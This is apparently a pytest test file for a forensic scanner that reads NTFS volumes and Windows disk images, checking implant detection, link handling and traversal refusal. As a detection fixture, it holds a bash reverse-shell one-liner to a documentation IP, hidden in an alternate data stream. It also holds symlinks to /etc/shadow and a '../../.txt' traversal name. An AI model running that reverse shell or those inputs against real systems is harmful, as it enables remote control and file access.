"""NTFS read without mounting: a bare volume and NTFS partitions of whole disks (raw, VHDX, qcow2, E01).

The volumes are real: ``mkntfs`` (ntfs-3g) formats a sparse file, wimlib applies the tree to the
unmounted volume through libntfs-3g, and ``ntfscp`` writes an alternate data stream. The tree is
the Windows 10 collection of ``test_forensics_windows`` (real hives changed with hivex); a disk
scan must give the directory scan's findings, with the same ids.
"""

from __future__ import annotations

import os
import random
import shutil
import struct
import subprocess
from datetime import UTC, datetime
from pathlib import Path

import pytest

from cranewatch.cli import main
from cranewatch.forensics.api import ScanResult, scan_image
from cranewatch.forensics.image import Limits, open_image
from cranewatch.forensics.ntfs import reparse_target
from cranewatch.model import Severity
from evtx_writer import event, write_evtx
from test_forensics_windows import IMPLANTS, STS07, _matching, implant_tree
from windows_helpers import REG_SZ, build_pe, set_values

MIB = 1 << 20
ESP = "C12A7328-F81F-11D2-BA4B-00A0C93EC93B"
MSR = "E3C9E316-0B5C-4DB8-817D-F92DF00215AE"
BASIC_DATA = "EBD0A0A2-B9E5-4433-87C0-68B6B72699C7"
REVERSE_SHELL = "#!/bin/sh\nbash -i >& /dev/tcp/198.51.100.23/4444 0>&1\n"


def _which(name: str) -> str:
    found = shutil.which(name) or shutil.which(name, path="/usr/sbin:/sbin")
    if found is None:
        pytest.fail(f"{name} is not installed: run scripts/install-deps.sh")
    return found


def ntfs_volume(tree: Path, out: Path, size_mib: int | None = None) -> Path:
    """A real NTFS volume holding ``tree``: mkntfs on a sparse file, the tree applied by wimlib
    to the unmounted volume (libntfs-3g; Linux symlinks become NTFS symbolic-link reparse points)."""
    data = sum(p.stat().st_size for p in tree.rglob("*") if p.is_file() and not p.is_symlink())
    size = size_mib or max(16, 2 * data // MIB + 16)
    subprocess.run(["truncate", "-s", f"{size}M", str(out)], check=True)
    subprocess.run([_which("mkntfs"), "-F", "-Q", "-q", "-L", "OS", str(out)], check=True, capture_output=True)
    wim = out.with_suffix(".wim")
    subprocess.run([_which("wimlib-imagex"), "capture", str(tree), str(wim), "--no-acls", "--compress=none"],
                   check=True, capture_output=True)
    subprocess.run([_which("wimlib-imagex"), "apply", str(wim), "1", str(out)], check=True, capture_output=True)
    wim.unlink()
    return out


def gpt_disk(out: Path, parts: list[tuple[Path | None, int, str]]) -> Path:
    """A GPT disk of ``parts`` (content or None, size MiB, type GUID) at 1 MiB steps."""
    total = 2 + sum(size for _, size, _ in parts)
    subprocess.run(["truncate", "-s", f"{total}M", str(out)], check=True)
    lines = ["label: gpt"]
    start = 1
    for _content, size, kind in parts:
        lines.append(f"start={start * 2048}, size={size * 2048}, type={kind}")
        start += size
    subprocess.run([_which("sfdisk"), "-q", str(out)], input="\n".join(lines) + "\n", text=True, check=True,
                   stdout=subprocess.DEVNULL)
    start = 1
    with open(out, "r+b") as disk:
        for content, size, _kind in parts:
            if content is not None:
                disk.seek(start * MIB)
                with open(content, "rb") as fh:
                    shutil.copyfileobj(fh, disk, MIB)
            start += size
    return out


def _signature(result: ScanResult) -> list[tuple[str, str, str, str]]:
    return sorted((f.id, f.rule, f.severity.name, f.title) for f in result.findings)


# Implants of the kinds read since the collection tests: a real unsigned program started by a
# service, event logs, a COM hijack in the user's UsrClass.dat.
NEW_IMPLANTS = ("windows.program-signature", "windows.event-service-installed", "windows.event-rdp-logon",
                "windows.com-hijack")


@pytest.fixture(scope="module")
def tree(shared_data: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = implant_tree(shared_data, tmp_path_factory.mktemp("win10") / "C")
    build_pe(root / "ProgramData/CraneSync/cranesync.exe", "crane sync")  # a real, unsigned program
    when = datetime(2024, 5, 14, 8, 30, tzinfo=UTC)
    write_evtx(root / "Windows/System32/winevt/Logs/System.evtx", [
        (event("Service Control Manager", 7045, "System", when, 1, {"ServiceName": "PSEXESVC",
                                                                    "ImagePath": "%SystemRoot%\\PSEXESVC.exe"}), when)])
    write_evtx(root / "Windows/System32/winevt/Logs/Security.evtx", [
        (event("Microsoft-Windows-Security-Auditing", 4624, "Security", when, 1,
               {"TargetUserName": "vendor", "LogonType": "10", "IpAddress": "203.0.113.80"}), when)])
    thumbs = "{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}"
    set_values(root / "Windows/System32/config/SOFTWARE", [
        (f"Classes\\CLSID\\{thumbs}\\InprocServer32", "", REG_SZ, "%SystemRoot%\\system32\\thumbcache.dll")])
    set_values(root / "Users/cms/AppData/Local/Microsoft/Windows/UsrClass.dat", [
        (f"CLSID\\{thumbs}\\InprocServer32", "", REG_SZ, "C:\\Users\\cms\\AppData\\Roaming\\thumbs.dll")])
    return root


@pytest.fixture(scope="module")
def tree_result(tree: Path) -> ScanResult:
    return scan_image(tree, workers=1, policy=STS07)


@pytest.fixture(scope="module")
def volume(tree: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return ntfs_volume(tree, tmp_path_factory.mktemp("ntfs") / "c.ntfs")


@pytest.fixture(scope="module")
def windows_disk(volume: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A Windows disk as Windows Setup lays it out: EFI system, MSR, the NTFS system volume."""
    work = tmp_path_factory.mktemp("disk")
    esp = work / "esp.img"
    subprocess.run(["truncate", "-s", "34M", str(esp)], check=True)
    subprocess.run([_which("mkfs.vfat"), "-F", "32", str(esp)], check=True, stdout=subprocess.DEVNULL)
    size = volume.stat().st_size // MIB
    return gpt_disk(work / "win.raw", [(esp, 34, ESP), (None, 16, MSR), (volume, size, BASIC_DATA)])


def test_a_bare_ntfs_volume_gives_the_directory_findings(volume: Path, tree_result: ScanResult) -> None:
    result = scan_image(volume, workers=1, policy=STS07)
    assert result.inputs[0].format == "ntfs"
    assert _signature(result) == _signature(tree_result)
    for rule, word, lowest in IMPLANTS:
        assert max(f.severity for f in _matching(result.findings, rule, word)) >= lowest, (rule, word)
    for rule in NEW_IMPLANTS:
        assert [f for f in result.findings if f.rule == rule and f.severity >= Severity.HIGH], rule
    assert result.problems == ()


@pytest.mark.parametrize("fmt", ["vhdx", "raw", "qcow2", "vmdk", "vpc"])
def test_a_windows_disk_gives_the_directory_findings(tmp_path: Path, windows_disk: Path, tree_result: ScanResult,
                                                     fmt: str) -> None:
    disk = windows_disk
    if fmt != "raw":
        disk = tmp_path / f"win.{fmt}"
        subprocess.run([_which("qemu-img"), "convert", "-q", "-f", "raw", "-O", fmt, str(windows_disk), str(disk)],
                       check=True)
    result = scan_image(disk, workers=1, policy=STS07)
    # The system volume is the disk's root: its findings keep the directory scan's ids.
    assert _signature(result) == _signature(tree_result)
    (sethc,) = _matching(result.findings, "windows.ifeo-debugger", "sethc.exe")
    assert sethc.evidence[0].path == "p3:/Windows/System32/config/SOFTWARE"
    assert sethc.evidence[0].values["partition_offset"] == 51 * MIB
    assert sethc.evidence[0].values["filesystem"] == "ntfs"
    assert any("p3 ntfs (root)" in w for w in result.warnings), result.warnings
    assert any("p2 (GPT Microsoft reserved" in w and "skipped" in w for w in result.warnings)
    assert result.problems == ()


def test_an_e01_of_a_windows_disk(tmp_path: Path, windows_disk: Path, tree_result: ScanResult) -> None:
    target = tmp_path / "cms"
    subprocess.run([_which("ewfacquire"), "-u", "-q", "-t", str(target), "-f", "encase6", "-c", "fast",
                    str(windows_disk)], check=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL)
    assert _signature(scan_image(tmp_path / "cms.E01", workers=1, policy=STS07)) == _signature(tree_result)


def test_links_are_not_followed_and_streams_are_scanned(tmp_path: Path) -> None:
    root = tmp_path / "t"
    (root / "Users/cms").mkdir(parents=True)
    (root / "Users/cms/notes.txt").write_text("shift handover\n")
    (root / "Users/cms/shift.log").write_text("crane 7 ok\n")
    (root / "Users/cms/shift-copy.log").hardlink_to(root / "Users/cms/shift.log")
    os.symlink("/etc", root / "Users/cms/host-etc")  # a directory symbolic link out of the volume
    os.symlink("/etc/shadow", root / "Users/cms/shadow")
    volume = ntfs_volume(root, tmp_path / "v.ntfs")
    payload = tmp_path / "payload"
    payload.write_text(REVERSE_SHELL)
    subprocess.run([_which("ntfscp"), "-f", "-N", "update.sh", str(volume), str(payload), "/Users/cms/notes.txt"],
                   check=True, capture_output=True)
    with open_image(volume) as image:
        entries = image.entries
        assert entries["Users/cms/host-etc"].type == "symlink"
        assert entries["Users/cms/host-etc"].link == "C:\\etc"  # wimlib's fixed-up target; never resolved
        assert entries["Users/cms/shadow"].type == "symlink"
        assert not [p for p in entries if p.startswith("Users/cms/host-etc/")]
        assert not any(p.is_symlink() for p in image.root.rglob("*"))  # nothing written but files and folders
        assert image.read_text("Users/cms/notes.txt:update.sh") == REVERSE_SHELL
        assert image.read_text("Users/cms/notes.txt") == "shift handover\n"
        assert image.read_text("Users/cms/shift.log") == image.read_text("Users/cms/shift-copy.log") == "crane 7 ok\n"
        assert any("alternate data stream 'update.sh'" in w for w in image.warnings)
    found = scan_image(volume, workers=1)
    assert "Users/cms/notes.txt:update.sh" in {e.path for f in found.findings for e in f.evidence}


def test_per_file_size_limit_applies_to_ntfs(tmp_path: Path) -> None:
    root = tmp_path / "t"
    root.mkdir()
    (root / "big.bin").write_bytes(os.urandom(300_000))
    (root / "small.txt").write_text("ok\n")
    volume = ntfs_volume(root, tmp_path / "v.ntfs")
    with open_image(volume, Limits(max_member_bytes=100_000)) as image:
        assert "big.bin" not in image.entries
        assert image.read_text("small.txt") == "ok\n"
        assert any(p.startswith("big.bin: 300000 bytes, more than the 100000-byte limit") for p in image.problems)


def test_a_truncated_ntfs_volume_is_a_located_error(tmp_path: Path, volume: Path, capsys: pytest.CaptureFixture[str]) -> None:
    cut = tmp_path / "cut.ntfs"
    with open(volume, "rb") as src, open(cut, "wb") as out:
        out.write(src.read(2 * MIB))  # the boot sector survives; the MFT (at 4 MiB on a small volume) does not
    code = main(["scan-image", str(cut)])
    err = capsys.readouterr().err
    assert code == 3, err
    assert str(cut) in err and "NTFS" in err
    assert "Traceback" not in err


def test_a_crash_of_the_reader_is_a_located_error(tmp_path: Path, volume: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """libtsk runs in a child: the child dying (here: too little address space) ends nothing else."""
    import cranewatch.forensics.ntfs as ntfs
    from cranewatch.errors import ImageError

    monkeypatch.setattr(ntfs, "_CHILD_MEMORY", 16 << 20)
    with pytest.raises(ImageError) as caught:
        open_image(volume)
    assert "the NTFS reader (libtsk) stopped" in caught.value.message
    assert caught.value.location is not None and caught.value.location.file == str(volume)


def test_reparse_buffers_are_decoded_by_hand() -> None:
    # A junction to C:\ProgramData: tag, length, reserved, then the four name offsets/lengths.
    sub = "\\??\\C:\\ProgramData".encode("utf-16-le")
    shown = "C:\\ProgramData".encode("utf-16-le")
    offsets = struct.pack("<HHHH", 0, len(sub), len(sub) + 2, len(shown))
    body = offsets + sub + b"\0\0" + shown + b"\0\0"
    junction = (0xA0000003).to_bytes(4, "little") + len(body).to_bytes(2, "little") + b"\0\0" + body
    assert reparse_target(junction) == ("junction", "C:\\ProgramData")
    assert reparse_target(b"\x17\x00\x00\x80" + b"\0" * 12)[0] == "WOF (compressed) file"
    assert reparse_target(b"\x01") == ("reparse point", "")


def test_a_name_holding_path_separators_is_refused(tmp_path: Path) -> None:
    """NTFS stores names as UTF-16 and libtsk hands them over as they are: a hostile volume's
    '../../.txt' (written here into the MFT record and the directory index) never leaves the root."""
    root = tmp_path / "t"
    (root / "Users").mkdir(parents=True)
    (root / "Users/aaaaaa.txt").write_text("payload\n")
    (root / "Users/fine.txt").write_text("ok\n")
    volume = ntfs_volume(root, tmp_path / "v.ntfs")
    data = volume.read_bytes()
    old, new = "aaaaaa.txt".encode("utf-16-le"), "../../.txt".encode("utf-16-le")
    assert data.count(old) == 2  # the $FILE_NAME attribute and the $I30 index entry
    volume.write_bytes(data.replace(old, new))
    with open_image(volume) as image:
        assert sorted(image.entries) == ["Users", "Users/fine.txt"]
        assert image.problems == [
            "refused 1 member(s) whose names leave the image root (path traversal), not scanned: 'Users/../../.txt'"]
        assert not (tmp_path / ".txt").exists() and not (image.root.parent / ".txt").exists()


def test_the_file_count_limit_stops_the_ntfs_walk(tmp_path: Path) -> None:
    root = tmp_path / "t"
    (root / "d").mkdir(parents=True)
    for i in range(20):
        (root / f"d/f{i:02d}.txt").write_text(f"{i}\n")
    volume = ntfs_volume(root, tmp_path / "v.ntfs")
    with open_image(volume, Limits(max_files=8)) as image:
        assert len(image.entries) == 8
        assert any(p.startswith("stopped reading the image at member 9") and "file-count limit" in p for p in image.problems)


def test_damaged_mft_records_give_an_image_or_a_located_error(tmp_path: Path) -> None:
    """Bounded fuzzing (fixed seed, 12 cases) of the MFT of a real volume: each damaged volume is
    read (what libtsk can) or refused with an ImageError naming it; never an exception, never a
    file outside the private directory."""
    from cranewatch.errors import ImageError

    root = tmp_path / "t"
    (root / "Users/a/b").mkdir(parents=True)
    for i in range(30):
        (root / f"Users/a/b/f{i}.txt").write_text("x" * (i * 300))
    base = ntfs_volume(root, tmp_path / "v.ntfs", 16).read_bytes()
    mft = base.index(b"FILE0")
    rng = random.Random(5)
    damaged = tmp_path / "m.ntfs"
    outcomes = set()
    for _ in range(12):
        data = bytearray(base)
        for _ in range(rng.randint(1, 60)):
            data[mft + rng.randrange(120 * 1024)] = rng.randrange(256)
        damaged.write_bytes(bytes(data))
        try:
            with open_image(damaged) as image:
                assert all(".." not in p.split("/") for p in image.entries)
                assert not any(p.is_symlink() for p in image.root.rglob("*"))
                outcomes.add("read")
        except ImageError as exc:
            assert exc.location is not None and exc.location.file == str(damaged)
            outcomes.add("refused")
    assert "read" in outcomes
    assert sorted(p.name for p in tmp_path.iterdir()) == ["m.ntfs", "t", "v.ntfs"]
